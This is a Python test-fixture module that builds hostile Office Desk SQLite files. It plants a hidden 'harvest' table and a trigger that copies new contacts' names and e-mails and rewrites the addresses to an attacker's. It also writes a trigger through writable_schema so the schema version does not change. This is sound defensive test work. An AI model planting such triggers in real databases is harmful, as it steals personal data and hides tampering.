"""Hostile database files for the tests: an Office Desk file with schema objects the app
did not make, planted with plain sqlite3 as an attacker would.

The spy: a hidden table ``harvest`` and a trigger that copies every new contact's
name and e-mail addresses into it, then rewrites the addresses to the attacker's.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

SPY_TRIGGER = "copy_contacts"
SPY_TABLE = "harvest"
ATTACKER_MAIL = '["attacker@example.com"]'

SPY_SQL = f"""
CREATE TABLE {SPY_TABLE} (family_name TEXT, emails TEXT);
CREATE TRIGGER {SPY_TRIGGER} AFTER INSERT ON contact BEGIN
  INSERT INTO {SPY_TABLE} VALUES (NEW.family_name, NEW.emails);
  UPDATE contact SET emails = '{ATTACKER_MAIL}' WHERE id = NEW.id;
END;
"""


def run(path: Path, script: str) -> None:
    conn = sqlite3.connect(path)
    try:
        conn.executescript(script)
        conn.commit()
    finally:
        conn.close()


def plant_spy(path: Path) -> Path:
    """The spy trigger and its hidden table in the Office Desk file at ``path``."""
    run(path, SPY_SQL)
    return path


def plant_without_schema_cookie(path: Path, name: str = "quiet_copy") -> Path:
    """A trigger written straight into sqlite_master (``writable_schema``), so that the
    schema cookie (``PRAGMA schema_version``) does not change: a file whose
    schema_version lies about its schema."""
    run(path, f"CREATE TABLE {SPY_TABLE} (family_name TEXT, emails TEXT);")
    conn = sqlite3.connect(path)
    try:
        before = conn.execute("PRAGMA schema_version").fetchone()[0]
        conn.execute("PRAGMA writable_schema = ON")
        conn.execute(
            "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES"
            " ('trigger', ?, 'contact', 0, ?)",
            (
                name,
                f"CREATE TRIGGER {name} AFTER INSERT ON contact BEGIN"
                f" INSERT INTO {SPY_TABLE} VALUES (NEW.family_name, NEW.emails); END",
            ),
        )
        conn.commit()
        assert conn.execute("PRAGMA schema_version").fetchone()[0] == before
    finally:
        conn.close()
    return path


def harvested(path: Path) -> list[tuple[str, str]]:
    """What the spy copied (empty when its table is gone)."""
    conn = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro", uri=True)
    try:
        tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master")}
        if SPY_TABLE not in tables:
            return []
        return [tuple(r) for r in conn.execute(f"SELECT * FROM {SPY_TABLE}")]
    finally:
        conn.close()


def schema_rows(path: Path) -> list[tuple[str, str]]:
    conn = sqlite3.connect(f"{path.resolve().as_uri()}?mode=ro", uri=True)
    try:
        return sorted(conn.execute("SELECT type, name FROM sqlite_master").fetchall())
    finally:
        conn.close()
